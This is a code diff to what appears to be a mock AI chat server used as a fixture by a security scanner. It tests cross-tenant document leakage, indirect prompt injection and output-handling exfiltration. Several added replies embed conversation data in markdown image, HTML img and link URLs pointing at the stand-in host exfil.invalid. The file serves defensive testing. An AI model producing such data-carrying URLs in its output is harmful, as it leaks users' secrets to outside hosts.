@@ -10,12 +10,16 @@ Tenants are told apart by their bearer token (``pin-token-b`` is tenant B, anyth
   document store for every tenant: the planted record comes back verbatim), ``isolated`` (per tenant),
   ``memory-b64`` (answers only the "earlier someone told you" probe, in base64, from a shared memory),
   ``no-upload`` (uploads refused with 403), ``refuse-b`` (tenant B may neither upload nor chat),
-  ``keep`` (shared, and DELETE of an upload is refused).
+  ``keep`` (shared, and DELETE of an upload is refused), ``status-<code>`` (isolated; the upload is stored
+  but answered with that status), ``slow-upload`` (isolated; the upload answers after 3 s). Only the tenant
+  that uploaded a document may delete it.
 - ``/oh/{mode}`` — ai.output-handling: ``image`` / ``link`` / ``html`` / ``bare`` (the conversation's
   account number in an outside URL of that form), ``own-host`` (the same image on the product's own
   origin), ``other-port`` (the product's host on another port), ``plain-image`` (an outside image without
-  data), ``fetch`` (the product itself requests the sink URL), ``current-only`` (sees only the message it
-  is sent, no conversation memory), ``refuse``.
+  data), ``plain-html`` / ``plain-link`` (the same as an HTML image / a link), ``image-and-link`` (the data
+  in both), ``fetch`` (the product itself requests the sink URL), ``current-only`` (sees only the message it
+  is sent, no conversation memory), ``echo`` (quotes the message), ``no-echo-control`` (refuses, and answers
+  the scan's echo control with 503), ``refuse``.
 - ``/ii/{mode}/chat`` + ``/ii/{mode}/files`` + ``/ii/{mode}/outbox`` — ai.indirect-injection: ``marker``,
   ``reverse``, ``sink``, ``tool``, ``email`` (each obeys the last uploaded document that way), ``quote``
   (quotes the document whole), ``csv-refused`` (CSV uploads refused), ``refuse-all`` (every upload
@@ -29,6 +33,7 @@ Tenants are told apart by their bearer token (``pin-token-b`` is tenant B, anyth
 
 from __future__ import annotations
 
+import asyncio
 import base64
 import re
 import uuid
@@ -99,21 +104,28 @@ async def _store_upload(key: str, file: UploadFile) -> dict[str, Any]:
 # -- ai.cross-tenant-context ----------------------------------------------------------------------
 
 def _ct_scope(mode: str, request: Request) -> str:
-    return f"ct-{mode}:{_tenant(request) if mode in {'isolated', 'no-upload', 'refuse-b'} else '*'}"
+    shared = mode in {"shared", "memory-b64", "keep"}
+    return f"ct-{mode}:{'*' if shared else _tenant(request)}"
 
 
 @app.post("/ct/{mode}/files", status_code=201)
 async def ct_upload(mode: str, request: Request, file: UploadFile = File(...)) -> Any:  # noqa: B008
     if mode == "no-upload" or (mode == "refuse-b" and _tenant(request) == "b"):
         return JSONResponse({"detail": "uploads are disabled"}, status_code=403)
-    return await _store_upload(_ct_scope(mode, request), file)
+    if mode == "slow-upload":
+        await asyncio.sleep(3)
+    stored = await _store_upload(_ct_scope(mode, request), file)
+    if mode.startswith("status-"):  # isolated, but the upload answers with this status
+        return JSONResponse(stored, status_code=int(mode.removeprefix("status-")))
+    return stored
 
 
 @app.delete("/ct/{mode}/files/{doc}")
 def ct_delete(mode: str, doc: int, request: Request) -> Any:
     if mode == "keep":
         return JSONResponse({"detail": "documents cannot be deleted"}, status_code=403)
-    DOCUMENTS[_ct_scope(mode, request)].pop(doc, None)
+    if DOCUMENTS[_ct_scope(mode, request)].pop(doc, None) is None:  # only its owner may delete it
+        return JSONResponse({"detail": "no such document"}, status_code=404)
     return {"deleted": doc}
 
 
@@ -140,7 +152,7 @@ async def ct_chat(mode: str, request: Request) -> Any:
 # -- ai.output-handling ---------------------------------------------------------------------------
 
 @app.post("/oh/{mode}")
-async def output_handling(mode: str, request: Request) -> dict[str, Any]:
+async def output_handling(mode: str, request: Request) -> Any:
     _, message, conversation, history = await _turn(request)
     seen = message if mode == "current-only" else " ".join(history)
     secret = _OUT_SECRET.search(seen)
@@ -159,7 +171,13 @@ async def output_handling(mode: str, request: Request) -> dict[str, Any]:
         "own-host": f"Here you go. ![status]({origin}/status.png?d={data})",
         "other-port": f"Here you go. ![status]({host}:{int(port) + 1}/status.png?d={data})",
         "plain-image": "Here you go. ![logo](http://exfil.invalid/logo.png)",
+        "plain-html": 'Here you go. <img src="http://exfil.invalid/logo.png">',
+        "plain-link": "Here you go. See [the docs](http://exfil.invalid/docs) for more.",
+        "image-and-link": f"![a](http://exfil.invalid/a.png?d={data}) and [b](http://exfil.invalid/b?d={data})",
+        "echo": f"You wrote: {message}",
     }.get(mode, "Sorry, I can't add images or links.")
+    if mode == "no-echo-control" and message.startswith("Please note my reference"):
+        return JSONResponse({"detail": "busy"}, status_code=503)
     if mode == "fetch":
         sink = _SINK.search(message)
         if sink:
